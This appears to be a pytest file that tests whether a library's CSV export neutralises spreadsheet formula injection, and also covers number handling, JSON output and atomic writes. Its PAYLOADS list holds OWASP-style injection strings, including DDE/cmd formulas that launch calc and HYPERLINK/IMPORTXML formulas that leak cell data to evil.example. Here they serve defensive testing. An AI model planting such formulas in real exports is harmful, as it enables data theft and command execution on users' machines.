"""R6 reports: CSV injection payloads are neutralised (OWASP), numbers stay numbers,
``escape_formulas=False`` turns it off, JSON keeps the raw values, and an interrupted export
keeps the previous file."""

from __future__ import annotations

import csv
import io
import os

import pandas as pd
import pytest

from cpexplore import files

# Payloads from OWASP's CSV-injection page and what tenants write into names and tags.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "+SUM(1,2)",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@import",
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "=",
    "+",
    "-",
    "@",
    "'=already quoted",
]
PLAIN_NUMBERS = ["-3", "+5", "-0.5", "1e3", "-2E-4", "42"]
HARMLESS = ["web-prod-01", "a=b", "x+y", "name@example.com", "测试服务器", "caché-naïve"]


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [row[0] for row in rows[1:]]


def test_r6_every_payload_is_neutralised_by_default():
    df = pd.DataFrame({"name": PAYLOADS + PLAIN_NUMBERS + HARMLESS})
    cells = _cells(files.to_csv(df))
    for raw, cell in zip(df["name"], cells, strict=True):
        if raw in PAYLOADS:
            assert cell.startswith("'") and cell[1:] == raw, (raw, cell)
        else:
            assert cell == raw, (raw, cell)
    print(
        f"R6: {len(PAYLOADS)} CSV injection payloads neutralised, {len(PLAIN_NUMBERS)} numbers kept"
    )


def test_r6_plain_numbers_stay_numbers_when_read_back():
    df = pd.DataFrame(
        {"delta": [-3, 5, -2], "label": ["-3", "+5", "-0.5"], "formula": ["-2+3", "x", "y"]}
    )
    back = pd.read_csv(io.StringIO(files.to_csv(df)))
    assert back["delta"].tolist() == [-3, 5, -2]
    assert back["label"].tolist() == [-3.0, 5.0, -0.5]
    assert back["formula"].tolist() == ["'-2+3", "x", "y"]


def test_r6_escape_formulas_false_writes_cells_as_they_are(tmp_path):
    df = pd.DataFrame({"name": PAYLOADS})
    path = files.to_csv(df, tmp_path / "raw.csv", escape_formulas=False)
    with open(path, encoding="utf-8", newline="") as fh:
        assert _cells(fh.read()) == PAYLOADS


def test_r6_json_keeps_the_raw_values_only_csv_is_escaped(tmp_path):
    import json

    df = pd.DataFrame({"name": PAYLOADS + PLAIN_NUMBERS + HARMLESS})
    path = files.to_json(df, tmp_path / "x.json")
    assert [r["name"] for r in json.loads(path.read_text(encoding="utf-8"))] == df["name"].tolist()
    lines = files.to_json(df, lines=True).splitlines()
    assert [json.loads(line)["name"] for line in lines] == df["name"].tolist()
    # the same frame as CSV, which spreadsheets open, is escaped
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert "'" + hyperlink in _cells(files.to_csv(df))
    assert json.loads(files.to_json(df))[2]["name"] == hyperlink
    # JSON has no escaping switch at all (0.1's was removed)
    with pytest.raises(TypeError, match="escape_formulas"):
        files.to_json(df, escape_formulas=True)


def test_r6_the_hostile_names_round_trip_through_read_csv(session, tmp_path):
    servers = session.list("servers", scope="system")
    path = files.to_csv(servers[["id", "name"]], tmp_path / "servers.csv")
    back = files.read_csv(path)
    assert back["name"].tolist() == servers["name"].tolist()
    raw = pd.read_csv(path)
    assert not raw["name"].astype(str).str[0].isin(list("=+-@\t\r\n")).any()


def test_r6_an_export_interrupted_midway_leaves_the_previous_file(tmp_path, monkeypatch):
    target = tmp_path / "servers.csv"
    files.to_csv(pd.DataFrame({"name": ["previous"]}), target)
    before = target.read_bytes()

    def explode(fd):  # the rows are written and flushed; Ctrl-C arrives before the rename
        assert os.fstat(fd).st_size > 0
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", explode)
    with pytest.raises(KeyboardInterrupt):
        files.to_csv(pd.DataFrame({"name": ["new"] * 1000}), target)
    monkeypatch.undo()
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["servers.csv"]
